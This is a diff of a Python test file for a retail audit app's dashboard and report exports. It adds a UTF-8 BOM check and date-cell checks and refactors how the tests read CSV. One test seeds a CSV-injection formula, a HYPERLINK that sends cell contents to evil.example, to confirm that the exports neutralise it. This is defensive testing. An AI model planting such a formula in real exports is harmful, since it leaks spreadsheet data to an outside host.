@@ -1,7 +1,10 @@
 """Managers' dashboard and the visit report: their regions only, scores from SQL, no shopper names."""
+import codecs
+import csv
 import io
 import re
-from datetime import date, timedelta
+from csv import DictReader
+from datetime import date, datetime, timedelta
 
 import pytest
 from pypdf import PdfReader
@@ -22,6 +25,12 @@ def _manager(app, email="manager.hu@example.com"):
     client = app.test_client()
     assert login(client, email, DEMO_PASSWORD).status_code == 302
     return client
+
+
+def _csv_rows(response, reader=csv.reader):
+    """A CSV export's rows, read as a spreadsheet does: its byte order mark says it is UTF-8."""
+    assert response.status_code == 200 and response.data.startswith(codecs.BOM_UTF8)
+    return reader(io.StringIO(response.data.decode("utf-8-sig")))
 
 
 def _xlsx(client, query=""):
@@ -163,11 +172,9 @@ def test_branch_report_draws_the_trend_and_section_charts(app, demo):
 
 
 def test_exports_have_a_row_per_visit_and_per_answer_and_never_name_the_shopper(app, demo):
-    import csv
-
     client = _manager(app)
-    visits = list(csv.reader(io.StringIO(client.get("/reports/export.csv?kind=visits&lang=ro").get_data(as_text=True))))
-    answers = list(csv.reader(io.StringIO(client.get("/reports/export.csv?kind=answers&lang=ro").get_data(as_text=True))))
+    visits = list(_csv_rows(client.get("/reports/export.csv?kind=visits&lang=ro")))
+    answers = list(_csv_rows(client.get("/reports/export.csv?kind=answers&lang=ro")))
     with app.app_context(), database.connection_context():
         region = Branch.get(Branch.code == "BUD-01").region_id
         expected = Visit.select().join(Branch).where((Branch.region == region) & (Visit.state == "approved")).count()
@@ -182,13 +189,18 @@ def test_exports_have_a_row_per_visit_and_per_answer_and_never_name_the_shopper(
     book = _xlsx(client, "?lang=en")
     assert book.sheetnames == ["visits", "answers"]
     assert book["visits"].max_row - 1 == expected
+    # The visit's day is a date cell in the XLSX (a spreadsheet sorts and groups it by date), and the
+    # same day as text in the CSV.
+    day_column = visits[0].index("date")
+    days = [row[day_column] for row in book["visits"].iter_rows(min_row=2)]
+    assert all(cell.is_date and cell.number_format == "yyyy-mm-dd" for cell in days)
+    assert sorted(cell.value.date().isoformat() for cell in days) == sorted(row[day_column] for row in visits[1:])
+    assert all(isinstance(row[2].value, datetime) for row in book["answers"].iter_rows(min_row=2))
 
 
 def test_a_comment_that_starts_like_a_formula_stays_text_in_both_exports(app, demo):
     """A shopper's comment is typed text: a spreadsheet opening the export must not run it (OWASP CSV
     injection). The CSV prefixes an apostrophe; the XLSX stores a text cell, shown as typed."""
-    import csv
-
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     with app.app_context(), database.connection_context():
         region = Branch.get(Branch.code == "BUD-01").region_id
@@ -197,7 +209,7 @@ def test_a_comment_that_starts_like_a_formula_stays_text_in_both_exports(app, de
         answer = Answer.select().where(Answer.visit == visit).order_by(Answer.id).first()
         Answer.update(comment=formula).where(Answer.id == answer.id).execute()
     client = _manager(app)
-    rows = list(csv.reader(io.StringIO(client.get("/reports/export.csv?kind=answers").get_data(as_text=True))))
+    rows = list(_csv_rows(client.get("/reports/export.csv?kind=answers")))
     mine = [row for row in rows if row[0] == str(visit.uuid) and row[4] == answer.item_id]
     assert [row[-1] for row in mine] == ["'" + formula]
     assert not any(cell.startswith("=") for row in rows for cell in row)
@@ -215,13 +227,11 @@ def test_a_comment_that_starts_like_a_formula_stays_text_in_both_exports(app, de
 def test_answers_past_a_sheets_row_limit_go_on_in_another_sheet_and_none_are_cut_off(app, demo, monkeypatch):
     """Excel's sheets hold 1,048,576 rows, which two years of a large chain's answers can pass; here the
     limit is lowered to 400 so that the demo's answers need several sheets."""
-    import csv
-
     from audit import exports
 
     monkeypatch.setattr(exports, "SHEET_ROWS", 400)
     client = _manager(app)
-    answers = list(csv.reader(io.StringIO(client.get("/reports/export.csv?kind=answers").get_data(as_text=True))))
+    answers = list(_csv_rows(client.get("/reports/export.csv?kind=answers")))
     assert len(answers) - 1 > 2 * 399
     book = _xlsx(client)
     parts = -(-(len(answers) - 1) // 399)
@@ -242,7 +252,6 @@ def test_an_agency_auditor_sees_one_brand_at_a_time_until_all_are_chosen(app, de
     """An auditor sees every client brand. Their checklists' scores do not compare, and an agency's
     brands together are thousands of branches: the dashboard starts with the first brand; All stays
     a choice, and the exports take the filters shown."""
-    import csv
     import html
     import re
 
@@ -265,13 +274,13 @@ def test_an_agency_auditor_sees_one_brand_at_a_time_until_all_are_chosen(app, de
     # The exports of the first page cover what it shows: Aurora's branches alone.
     link = html.unescape(re.search(r'href="(/reports/export\.csv\?[^"]*kind=visits[^"]*)"', first).group(1))
     assert f"brand={aurora}" in link
-    rows = list(csv.DictReader(io.StringIO(client.get(link).get_data(as_text=True))))
+    rows = list(_csv_rows(client.get(link), DictReader))
     assert rows and {row["brand"] for row in rows} == {"Aurora Electronics"}
     xlsx_action = html.unescape(re.search(r'action="(/reports/export\.xlsx\?[^"]*)"', first).group(1))
     job_page = client.get(client.post(xlsx_action, data={"csrf_token": csrf_from(client.get("/dashboard/"))})
                           .headers["Location"]).get_data(as_text=True)
     assert re.search(r'<p class="lead">Aurora Electronics · \d{4}-\d\d-\d\d – \d{4}-\d\d-\d\d</p>', job_page)
-    every_rows = list(csv.DictReader(io.StringIO(client.get("/reports/export.csv?kind=visits").get_data(as_text=True))))
+    every_rows = list(_csv_rows(client.get("/reports/export.csv?kind=visits"), DictReader))
     assert {row["brand"] for row in every_rows} == {"Aurora Electronics", "Baltia Bank"}
     # A manager's regions are few: theirs are all shown, across brands, as before.
     both = _manager(app, "manager.ee@example.com").get("/dashboard/").get_data(as_text=True)
